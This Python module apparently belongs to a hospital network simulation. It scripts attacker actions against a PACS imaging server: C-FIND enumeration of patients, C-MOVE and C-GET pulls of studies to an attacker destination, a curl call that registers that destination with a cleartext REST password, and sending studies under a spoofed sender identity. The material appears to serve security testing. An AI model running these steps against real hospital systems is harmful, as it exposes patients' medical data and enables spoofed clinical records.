"""What attackers do with DICOM: dcmtk's tools under any title and to any place, and a sender that says that it is somebody else."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import datetime

from act import Doing
from acts import imaging
from cast import Patient
from images import study
from services.dicom import PACS_PORT, REST_PASSWORD, prior
from space import call
from state import Hospital
from topology import Host

STUDY = ["-S", "-k", "QueryRetrieveLevel=STUDY"]
SHOWN = [word for key in ("PatientName", "PatientID", "StudyDate", "StudyInstanceUID") for word in ("-k", key)]
COPY_AE, COPY_PORT = "ZZCOPY", 11300
"""Who an attacker says that it is, and where it listens for images."""


def priors(hospital: Hospital, count: int) -> list[Patient]:
    """So many patients with a study that the PACS has for certain."""
    return [prior(patient) for patient in hospital.patients[:count]]


def find(keys: Sequence[str], title: str = "FINDSCU", level: str = "STUDY") -> Doing:
    """Ask the PACS (C-FIND, PS3.4 C.4.1); keys as `PatientID=ZZ*`."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        asked = [word for key in keys for word in ("-k", key)]
        words = ["findscu", "-S", "-k", f"QueryRetrieveLevel={level}", "-aet", title, "-aec", "PACS", *SHOWN, *asked]
        call([*words, hospital.address("pacs"), PACS_PORT])

    return doing


def move_here(patient: Patient) -> Doing:
    """Have a study sent (C-MOVE, PS3.4 C.4.2) to the one who asks, who takes it on a port of its own and throws it away."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["movescu", *STUDY, "-aet", COPY_AE, "-aem", COPY_AE, "-aec", "PACS", "+P", COPY_PORT, "--ignore"]
        call([*words, "-k", f"StudyInstanceUID={patient.study}", hospital.address("pacs"), PACS_PORT])

    return doing


def get(patient: Patient, title: str = COPY_AE) -> Doing:
    """The study over the same association (C-GET, PS3.4 C.4.3)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["getscu", *STUDY, "-aet", title, "-aec", "PACS", "--ignore", "-k", f"StudyInstanceUID={patient.study}"]
        call([*words, hospital.address("pacs"), PACS_PORT])

    return doing


def make_known(name: str) -> Doing:
    """Tell the PACS of a new destination, with the password of its REST interface that passes over the network in clear."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        body = f'{{"AET": "{COPY_AE}", "Host": "{hospital.address(name)}", "Port": {COPY_PORT}}}'
        login = ["curl", "-sf", "-o", "/dev/null", "-u", f"service:{REST_PASSWORD}", "-X", "PUT", "-d", body]
        call([*login, f"http://{hospital.address('pacs')}:8042/modalities/zzcopy"])

    return doing


def store_as(who: Host, patient: Patient, title: str = "", implementation: str = "", to: str = "pacs") -> Doing:
    """Send a study as `who` would have made it, under this title and implementation (`UID|VERSION`; none: pynetdicom's own)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        one = replace(who, ae=title or who.ae, implementation=implementation, toolkit="")
        imaging.send(hospital, one, study(who, patient, moment), to)

    return doing
